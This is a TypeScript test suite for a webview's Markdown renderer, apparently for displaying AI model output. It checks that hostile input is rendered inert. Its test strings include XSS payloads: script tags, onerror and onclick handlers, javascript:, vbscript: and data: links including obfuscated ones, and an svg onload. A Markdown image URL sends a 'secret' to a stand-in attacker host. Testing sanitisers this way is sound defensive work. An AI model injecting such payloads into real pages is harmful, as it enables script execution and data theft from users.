import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { JSDOM } from 'jsdom';
import { createMarkdownRenderer } from '../../webview/markdown';

/** Renders like the webview does, into a jsdom document, and returns the container. */
function rendered(markdown: string): { root: HTMLElement; window: Window } {
    const dom = new JSDOM('<!DOCTYPE html><body></body>', { runScripts: 'outside-only' });
    const window = dom.window as unknown as Window;
    const root = window.document.createElement('div');
    root.innerHTML = createMarkdownRenderer(window)(markdown);
    window.document.body.append(root);
    return { root, window };
}

describe('model Markdown rendering', () => {
    it('renders headings, emphasis, lists and fenced code with its language', () => {
        const { root } = rendered('# Plan\n\n- **one**\n- `two`\n\n```hcl\nresource "aws_s3_bucket" "logs" {}\n```\n');
        assert.equal(root.querySelector('h1')?.textContent, 'Plan');
        assert.equal(root.querySelector('li strong')?.textContent, 'one');
        assert.equal(root.querySelector('li code')?.textContent, 'two');
        const code = root.querySelector('pre code');
        assert.equal(code?.className, 'language-hcl');
        assert.equal(code?.textContent, 'resource "aws_s3_bucket" "logs" {}\n');
    });

    it('keeps a script tag in the answer as text: no script element is created', () => {
        const { root } = rendered('Try this: <script>document.title="pwned"</script> ok');
        assert.equal(root.querySelector('script'), null);
        assert.match(root.textContent ?? '', /<script>document.title="pwned"<\/script>/);
    });

    it('renders an img with onerror inert: no img element, no event handler attribute anywhere', () => {
        const { root } = rendered('<img src=x onerror="document.title=\'pwned\'">\n\n<div onclick="alert(1)">hi</div>');
        assert.equal(root.querySelector('img'), null);
        assert.equal(root.querySelector('[onerror], [onclick]'), null);
        assert.match(root.textContent ?? '', /onerror/);
    });

    it('drops javascript:, vbscript: and data: link targets, keeping the link text', () => {
        const { root } = rendered('[click](javascript:alert(1)) [vb](vbscript:msgbox) [data](data:text/html;base64,PHNjcmlwdD4=) '
            + '[img](data:image/png;base64,AAAA) <javascript:alert(2)> [ok](https://example.com/docs)');
        const hrefs = [...root.querySelectorAll('a')].map(a => a.getAttribute('href')).filter(Boolean);
        assert.deepEqual(hrefs, ['https://example.com/docs']);
        assert.match(root.textContent ?? '', /click/);
    });

    it('hides a javascript: URL behind entity encoding too', () => {
        const { root } = rendered('[x](&#106;avascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z]( javascript:alert(1))');
        for (const a of root.querySelectorAll('a')) {
            assert.doesNotMatch(a.getAttribute('href') ?? '', /script:/i);
        }
    });

    it('turns a Markdown image into a link instead of loading it', () => {
        const { root } = rendered('![diagram](https://attacker.example.net/leak?q=secret)');
        assert.equal(root.querySelector('img'), null);
        const link = root.querySelector('a');
        assert.equal(link?.getAttribute('href'), 'https://attacker.example.net/leak?q=secret');
        assert.equal(link?.textContent, '[image: diagram]');
    });

    it('never lets iframes, forms, styles or svg through', () => {
        const { root } = rendered('<iframe src="https://example.com"></iframe><form action="x"><input></form>'
            + '<style>body{display:none}</style><svg onload="alert(1)"></svg>');
        assert.equal(root.querySelector('iframe, form, input, style, svg'), null);
    });

    it('runs no script at all while rendering hostile input', () => {
        const { root, window } = rendered('<script>window.pwned=1</script><img src=x onerror="window.pwned=1">'
            + '[a](javascript:window.pwned=1)');
        root.querySelectorAll('a').forEach(a => (a as HTMLAnchorElement).click());
        assert.equal((window as unknown as { pwned?: number }).pwned, undefined);
    });

    it('does not turn file names that look like domains into links', () => {
        const { root } = rendered('I added outputs.tf and deploy.sh; see modules/s3/main.tf or ops@example.com');
        assert.equal(root.querySelector('a'), null);
    });

    it('marks links to open safely and shows where they go', () => {
        const { root } = rendered('see https://example.com/runbook');
        const link = root.querySelector('a');
        assert.equal(link?.getAttribute('rel'), 'noopener noreferrer');
        assert.equal(link?.getAttribute('title'), 'https://example.com/runbook');
    });
});
